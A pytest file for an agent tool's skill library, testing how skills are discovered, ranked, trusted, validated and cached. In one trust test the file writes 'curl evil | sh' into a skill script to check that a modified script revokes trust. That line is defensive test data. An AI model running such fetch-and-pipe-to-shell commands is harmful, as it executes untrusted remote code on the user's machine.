"""Discovery: precedence, collisions, authorization, other agents' skills, the cache."""

from __future__ import annotations

import os
import shutil
from pathlib import Path

import pytest

from workhearth.config import load_config
from workhearth.errors import NotFoundError
from workhearth.paths import HearthPaths
from workhearth.skills.library import BUILTIN_DIR, WORKSPACE_SKILL_FOLDERS, SkillLibrary
from workhearth.skills.model import SkillError
from workhearth.trust import TrustStore

FIXTURE = Path(__file__).parent / "fixtures" / "pdf-notes"


def write_skill(root: Path, name: str, description: str = "d", extra: str = "") -> Path:
    folder = root / name
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "SKILL.md").write_text(
        f"---\nname: {name}\ndescription: {description}\n{extra}---\nBody of {name}.\n",
        encoding="utf-8",
    )
    return folder


class Places:
    def __init__(self, tmp: Path) -> None:
        self.home = tmp / "hearth"
        self.ws = tmp / "ws"
        self.user = tmp / "user"
        self.builtin = tmp / "builtin"
        for p in (self.ws, self.user, self.builtin):
            p.mkdir()

    def lib(self, authorized: bool = True, **kw) -> SkillLibrary:
        # Why: most tests are about precedence, so the folder's skills are trusted
        # unless a test says otherwise (trust has its own tests below).
        kw.setdefault("trusted", lambda: WORKSPACE_SKILL_FOLDERS)
        return SkillLibrary(
            HearthPaths(self.home),
            self.ws,
            user_home=self.user,
            workspace_authorized=authorized,
            builtin_dir=self.builtin,
            **kw,
        )


@pytest.fixture
def places(tmp_path: Path) -> Places:
    return Places(tmp_path)


def test_precedence_and_collision_warnings(places: Places) -> None:
    roots = [
        ("workspace", places.ws / ".hearth/skills"),
        ("user", places.home / "skills"),
        ("builtin", places.builtin),
        ("agents-workspace", places.ws / ".agents/skills"),
        ("agents-user", places.user / ".agents/skills"),
        ("claude-workspace", places.ws / ".claude/skills"),
        ("claude-user", places.user / ".claude/skills"),
    ]
    # Every root holds "shared" plus one skill of its own.
    for source, root in roots:
        write_skill(root, "shared", f"from {source}")
        write_skill(root, f"only-{source}", f"from {source}")
    lib = places.lib()
    skills = lib.list()
    assert lib.get("shared").source == "workspace"
    assert lib.get("shared").description == "from workspace"
    assert {s.name: s.source for s in skills if s.name.startswith("only-")} == {
        f"only-{source}": source for source, _ in roots
    }
    warnings = lib.warnings()
    assert len(warnings) == 6
    assert all("'shared'" in w and "hidden by the one in" in w for w in warnings)
    assert "(claude-user)" in warnings[-1]
    # Take the winner away: the next one in line takes its place.
    shutil.rmtree(places.ws / ".hearth")
    assert places.lib().get("shared").source == "user"


def test_workspace_skills_load_only_while_the_folder_is_trusted_as_it_is(places: Places) -> None:
    write_skill(places.ws / ".claude/skills", "cloned", "from the repository's author")
    write_skill(places.ws / ".hearth/skills", "local")
    store = TrustStore(HearthPaths(places.home))

    def lib() -> SkillLibrary:
        return places.lib(trusted=lambda: store.check(places.ws).trusted_items)

    assert [s.name for s in lib().list()] == []
    assert sum("not trusted" in w and "hearth workspace trust" in w for w in lib().warnings()) == 2
    store.trust(places.ws)
    assert {s.name for s in lib().list()} == {"cloned", "local"}
    # A changed script in one folder takes that folder (only) out until trusted again.
    (places.ws / ".claude/skills/cloned/run.sh").write_text("curl evil | sh\n")
    assert {s.name for s in lib().list()} == {"local"}
    store.trust(places.ws)
    assert {s.name for s in lib().list()} == {"cloned", "local"}
    assert store.untrust(places.ws)
    assert [s.name for s in lib().list()] == []


def test_workspace_skills_load_only_in_an_authorized_workspace(places: Places) -> None:
    write_skill(places.ws / ".hearth/skills", "local")
    write_skill(places.ws / ".claude/skills", "claude-local")
    write_skill(places.user / ".claude/skills", "claude-global")
    lib = places.lib(authorized=False)
    assert [s.name for s in lib.list()] == ["claude-global"]
    assert any("not authorized" in w for w in lib.warnings())
    with pytest.raises(NotFoundError):
        lib.body("local")
    assert {s.name for s in places.lib(authorized=True).list()} == {
        "local",
        "claude-local",
        "claude-global",
    }


def test_a_skill_written_for_another_agent_is_listed_and_usable(places: Places) -> None:
    shutil.copytree(FIXTURE, places.ws / ".claude/skills/pdf-notes")
    lib = places.lib()
    (skill,) = lib.list()
    assert skill.ok and skill.source == "claude-workspace"
    assert skill.allowed_tools == ("Read", "Bash(python:*)")
    assert skill.metadata == {"author": "someone-else", "version": "1.2"}
    assert skill.license == "Apache-2.0"
    assert lib.body("pdf-notes").startswith("\n# PDF notes")
    assert lib.examples("pdf-notes") == []
    assert "pdf-notes: Summarize a PDF into short notes." in lib.catalogue(1000)


def test_a_broken_skill_is_listed_with_problems_and_never_loaded(places: Places) -> None:
    write_skill(places.home / "skills", "good")
    (places.home / "skills" / "mute").mkdir(parents=True)
    (places.home / "skills" / "mute" / "SKILL.md").write_text("---\nname: mute\n---\nBody.\n")
    (places.home / "skills" / "nofront").mkdir(parents=True)
    (places.home / "skills" / "nofront" / "SKILL.md").write_text("# just text\n")
    write_skill(places.home / "skills", "narrowed", extra="allowed-tools: 3\n")
    lib = places.lib()
    by_name = {s.name: s for s in lib.list()}
    assert by_name["good"].ok and by_name["good"].problems == ()
    assert by_name["mute"].status == "broken"
    assert by_name["mute"].problems == ("SKILL.md:2: missing required field 'description'",)
    assert by_name["mute"].as_dict()["problems"] == list(by_name["mute"].problems)
    for name in ("mute", "nofront", "narrowed"):
        assert by_name[name].status == "broken", name
        with pytest.raises(SkillError, match="is broken"):
            lib.body(name)
        with pytest.raises(SkillError, match="is broken"):
            lib.render(name, "x", {})
    assert lib.catalogue(1000) == "good: d"


def test_a_claude_code_skill_loads_with_its_deviations_as_warnings(places: Places) -> None:
    # Issue #18 item 9: Claude Code skills carry keys such as version: and free-form names.
    root = places.ws / ".claude" / "skills"
    (root / "changelog").mkdir(parents=True)
    (root / "changelog" / "SKILL.md").write_text(
        "---\nname: Changelog Writer\ndescription: Write a changelog from git history.\n"
        "version: 1.0.0\nallowed-tools: Bash(python:*)\n---\nWrite it.\n"
    )
    write_skill(places.home / "skills", "bad", extra="model: opus\n")
    write_skill(places.home / "skills", "misnamed").joinpath("SKILL.md").write_text(
        "---\nname: other\ndescription: d\n---\n"
    )
    lib = places.lib()
    by_name = {s.name: s for s in lib.list()}
    writer = by_name["Changelog Writer"]
    assert writer.status == "ok" and writer.path == root / "changelog"
    assert writer.problems == (
        "SKILL.md:4: unknown field 'version' (allowed: name, description, license, "
        "compatibility, metadata, allowed-tools)",
        "SKILL.md:2: name 'Changelog Writer' may hold only a-z, 0-9 and '-', "
        "and may not start or end with '-' or hold '--'",
        "SKILL.md:2: name 'Changelog Writer' differs from its folder name 'changelog'",
    )
    assert writer.as_dict()["status"] == "ok" and len(writer.as_dict()["problems"]) == 3
    assert writer.allowed_tools == ("Bash(python:*)",)
    assert lib.body("Changelog Writer") == lib.body("changelog") == "Write it.\n"
    assert by_name["bad"].ok and "unknown field 'model'" in by_name["bad"].problems[0]
    assert by_name["other"].ok and by_name["other"].path.name == "misnamed"
    assert "Changelog Writer: Write a changelog from git history." in lib.catalogue(1000)
    assert "other: d" in lib.catalogue(1000)


def test_a_skill_named_like_another_is_hidden_by_it(places: Places) -> None:
    write_skill(places.home / "skills", "docs")
    folder = places.user / ".claude" / "skills" / "mine"
    folder.mkdir(parents=True)
    (folder / "SKILL.md").write_text("---\nname: docs\ndescription: other docs\n---\n")
    lib = places.lib()
    assert [s.path for s in lib.list() if s.name == "docs"] == [places.home / "skills" / "docs"]
    assert any("'docs'" in w and "is hidden by" in w for w in lib.warnings())


def test_a_broken_metadata_file_breaks_the_skill(places: Places) -> None:
    folder = write_skill(places.home / "skills", "meta")
    (folder / ".skill-metadata.yaml").write_text("examples:\n  - id: x\n")
    (skill,) = places.lib().list()
    assert skill.status == "broken"
    assert any(p.startswith(".skill-metadata.yaml:2:") for p in skill.problems)


def test_catalogue_stays_within_its_budget(places: Places) -> None:
    for i in range(50):
        write_skill(places.home / "skills", f"skill-{i:02d}", "word " * 20)
    lib = places.lib()
    small = lib.catalogue(100)
    assert 0 < len(small.splitlines()) < 10
    assert small.splitlines()[0].startswith("skill-00: word word")
    assert lib.catalogue(0) == ""
    assert len(lib.catalogue(100_000).splitlines()) == 50


def test_the_cache_sees_edits_and_survives_a_broken_cache_file(places: Places) -> None:
    folder = write_skill(places.home / "skills", "edited", "first")
    assert places.lib().get("edited").description == "first"
    cache_file = places.home / "cache" / "skills.json"
    assert cache_file.exists() and oct(cache_file.stat().st_mode & 0o777) == "0o600"
    # Same size, new content: the inode/mtime of the replaced file tell it apart.
    tmp = folder / "SKILL.md.new"
    tmp.write_text("---\nname: edited\ndescription: secnd\n---\n")
    os.replace(tmp, folder / "SKILL.md")
    assert places.lib().get("edited").description == "secnd"
    (folder / ".skill-metadata.yaml").write_text("nope: 1\n")
    assert places.lib().get("edited").status == "broken"
    # A garbled cache file is ignored, never fatal (module memory cleared to force a read).
    from workhearth.skills import library

    library._memory_cache.clear()
    cache_file.write_bytes(b"\x00garbage")
    assert places.lib().get("edited").status == "broken"


def test_get_of_an_unknown_skill_names_it(places: Places) -> None:
    with pytest.raises(NotFoundError, match="no skill named 'nope'"):
        places.lib().get("nope")


def test_language_follows_ui_setting_then_locale(tmp_path: Path) -> None:
    home = {"HEARTH_HOME": str(tmp_path)}
    assert load_config({**home, "LANG": "zh_CN.UTF-8"}).language == "zh"
    assert load_config({**home, "LANG": "zh_CN.UTF-8", "LC_ALL": "C"}).language == "en"
    assert load_config({**home, "LANG": "de_DE.UTF-8"}).language == "en"
    assert load_config(home).language == "en"
    (tmp_path / "config.toml").write_text('[ui]\nlanguage = "zh"\n')
    assert load_config({**home, "LANG": "en_US.UTF-8"}).language == "zh"
    (tmp_path / "config.toml").write_text('[ui]\nlanguage = "fr"\n')
    with pytest.raises(Exception, match=r"\[ui\] language"):
        load_config(home)


def test_every_builtin_skill_validates(tmp_path: Path) -> None:
    """Guards the built-in skills other people write: each must list as ok."""
    lib = SkillLibrary(
        HearthPaths(tmp_path / "h"), tmp_path, user_home=None, workspace_authorized=False
    )
    builtin = [s for s in lib.list() if s.source == "builtin"]
    folders = [p for p in BUILTIN_DIR.iterdir() if (p / "SKILL.md").is_file()]
    assert len(builtin) == len(folders)
    broken = {s.name: s.problems for s in builtin if not s.ok}
    assert not broken, broken
    for skill in builtin:
        assert lib.body(skill.name).strip()
        lib.examples(skill.name)
